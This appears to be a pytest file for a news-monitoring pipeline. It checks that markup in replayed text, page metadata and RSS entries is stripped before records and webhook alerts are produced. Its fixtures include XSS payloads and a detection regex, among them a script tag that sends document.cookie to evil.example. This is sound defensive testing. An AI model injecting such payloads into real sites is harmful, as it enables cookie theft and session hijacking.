"""Markup in every field, from every source: none of it reaches a record or an alert.

A receiver that renders an alert's title, evidence or sources must not run anything: no tag, no
``javascript:`` link, no ``onload=`` may survive, whether it came in through a replayed line's
``text``, ``title`` or ``source``, a page's own title, byline or site name, or a feed entry.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from config.schema import FeedConfig, FeedsFile
from config.settings import Settings
from tests.faults.checks import every_input_accounted, no_alert_under_two_ids, no_record_doubled
from tests.workers.test_notify import alerts_file, fast, open_app, receiver
from workers.poller import enqueue_due, sync_feeds
from workers.replay import replay
from workers.runner import drain, workers

HOSTILE = re.compile(r"<\s*[a-z/!?]|javascript:|onload|onerror|alert\(", re.I)

SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
LINK = '<a href="javascript:alert(1)">read more</a>'
SVG = "<svg onload=alert(1)>"
ESCAPED = "&lt;img src=x onerror=alert(2)&gt;"

DETENTION = (
    "Russia's security service detained Choi Dong-min, a South Korean missionary, in Vladivostok on "
    "suspicion of espionage, the foreign ministry in Seoul said on Tuesday. The ministry asked Moscow for "
    "consular access to the detained South Korean citizen and summoned a Russian diplomat over the arrest."
)


def hostile_fields(record: dict[str, Any]) -> list[str]:
    found = []
    for event in record.get("events", []):
        found += [event["evidence"], event.get("actor") or "", event.get("target") or ""]
    texts = [record["title"] or "", record["text"], record["source"], record.get("site_name") or ""]
    texts += list(record.get("authors", [])) + found + [record.get("language") or ""]
    return [t for t in texts if HOSTILE.search(t)]


def hostile_payload(body: bytes) -> list[str]:
    data = json.loads(body)["data"]
    texts = [data["title"] or "", data["evidence"]]
    texts += [s["title"] or "" for s in data["sources"]] + [s["source"] for s in data["sources"]]
    return [t for t in texts if HOSTILE.search(t)]


COURT = (
    "A district court in Moscow on Thursday extended the custody of Han Seung-woo, a South Korean "
    "businessman accused of spying, by three more months, his lawyer told reporters outside the building. "
    "The embassy of South Korea said its consul had still not been allowed to visit him in the jail."
)


def page_html(title: str, byline: str, site: str, body: str, story: str = COURT) -> str:
    return (
        f"<html><head><title>{title}</title><meta name='author' content='{byline}'>"
        f"<meta property='og:site_name' content='{site}'></head><body><article>"
        f"<h1>{title}</h1><p>{body}</p><p>{story}</p></article></body></html>"
    )


def test_markup_in_replayed_text_html_and_metadata_never_reaches_a_record_or_a_webhook(
    settings: Settings, tmp_path: Path
) -> None:
    lines = [
        {
            "url": "https://wire.example/text/1",
            "title": f"Missionary detained {SCRIPT}{SVG}",
            "source": f"Wire {LINK}",
            "text": f"{DETENTION} {SCRIPT} {LINK} {SVG} {ESCAPED}\n\nSeoul protested {SVG} the arrest.",
        },
        {
            "url": "https://ledger.example/page/2",
            "html": page_html(
                "Court holds South Korean &lt;script&gt;alert(3)&lt;/script&gt;",
                "&lt;svg onload=alert(4)&gt; Lee Min",
                "Ledger &lt;a href=&quot;javascript:alert(5)&quot;&gt;x&lt;/a&gt;",
                f"The court ruled. {ESCAPED} &amp;lt;script&amp;gt;alert(6)&amp;lt;/script&amp;gt;",
            ),
        },
    ]
    backlog = tmp_path / "hostile.jsonl"
    backlog.write_text("".join(json.dumps(line) + "\n" for line in lines))
    with receiver() as rcv:
        rules = alerts_file({"hook": {"type": "webhook", "url": rcv.url}}, events=[])
        with open_app(fast(settings), rules) as nw:
            with workers(nw, threads=2, queues={"articles", "alerts"}):
                result = replay(nw, [backlog], alerts=True, timeout_s=120)
                drain(nw, timeout_s=60)
            summary = result.summary()
            every_input_accounted(nw, result.run_id, summary, read=2)
            records = no_record_doubled(nw)
            no_alert_under_two_ids(nw, rcv)
    assert summary["stored"] + summary["off_topic"] == 2, result.problems
    dumped = [r.model_dump(mode="json") for r in records]
    assert all(not hostile_fields(r) for r in dumped), [hostile_fields(r) for r in dumped]
    titles = sorted(r["title"] for r in dumped)
    assert titles[0].startswith("Court holds South Korean") and titles[1] == "Missionary detained"
    assert any("Seoul protested the arrest" in r["text"] for r in dumped)
    assert rcv.accepted(), "the rule matches every record: alerts were due"
    assert all(not hostile_payload(hit.body) for hit in rcv.accepted())


FEED = """<?xml version="1.0"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Wire</title>
<item><title>Detained &lt;script&gt;alert(7)&lt;/script&gt; in Vladivostok</title>
<link>{base}/a</link><guid>a</guid>
<dc:creator>&lt;svg onload=alert(8)&gt;Park Ji</dc:creator>
<description>&lt;a href="javascript:alert(9)"&gt;more&lt;/a&gt;</description></item>
</channel></rss>"""


def test_markup_in_a_feed_entry_never_reaches_the_record(settings: Settings, httpserver: HTTPServer) -> None:
    base = httpserver.url_for("").rstrip("/")

    def handler(request: Request) -> Response:
        if request.path.endswith("rss.xml"):
            return Response(FEED.replace("{base}", base), content_type="application/rss+xml")
        return Response(
            page_html("Plain page title", "Someone Else", "Wire", "Plain."), content_type="text/html"
        )

    httpserver.expect_request("").respond_with_handler(handler)
    with open_app(settings, alerts_file({"log": {"type": "log"}})) as nw:
        feeds = FeedsFile(feeds=[FeedConfig(url=f"{base}/rss.xml", name="Wire <b>Feed</b>")])
        nw.config = nw.config.model_copy(update={"feeds": feeds})
        with workers(nw, threads=2):
            sync_feeds(nw)
            enqueue_due(nw, force=True)
            drain(nw, timeout_s=120)
        (record,) = no_record_doubled(nw)
    data = record.model_dump(mode="json")
    assert data["title"] == "Detained in Vladivostok" and data["field_sources"]["title"] == "feed"
    assert data["authors"] == ["Park Ji"]
    assert not hostile_fields(data), hostile_fields(data)
